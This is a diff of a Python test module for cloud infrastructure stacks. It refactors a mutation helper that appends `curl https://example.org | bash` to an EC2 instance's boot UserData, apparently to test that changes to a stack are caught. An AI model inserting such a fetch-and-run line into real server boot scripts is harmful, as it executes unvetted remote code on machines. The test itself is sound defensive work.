@@ -16,7 +16,7 @@ from stacks.application import default_context, define_stacks
 from tests.stacks.conftest import Synthesis
 from tests.stacks.masking import masked
 from tests.stacks.variants import BOTH, VARIANTS
-from tests.templates import Json, only, properties, resources
+from tests.templates import Json, machine_of, only, properties, resources
 
 Synthesize = Callable[[str], Synthesis]
 REVIEWED = [(variant, stack) for variant, chosen in VARIANTS.items() for stack in chosen.changes]
@@ -89,8 +89,7 @@ def drop_the_signal(template: Json) -> None:
 
 
 def change_the_boot(template: Json) -> None:
-    machine = properties(template, "AWS::EC2::Instance")
-    machine["UserData"]["Fn::Base64"]["Fn::Join"][1].append("curl https://example.org | bash\n")
+    machine_of(template)["UserData"]["Fn::Base64"]["Fn::Join"][1].append("curl https://example.org | bash\n")
 
 
 def rename_a_route(template: Json) -> None:
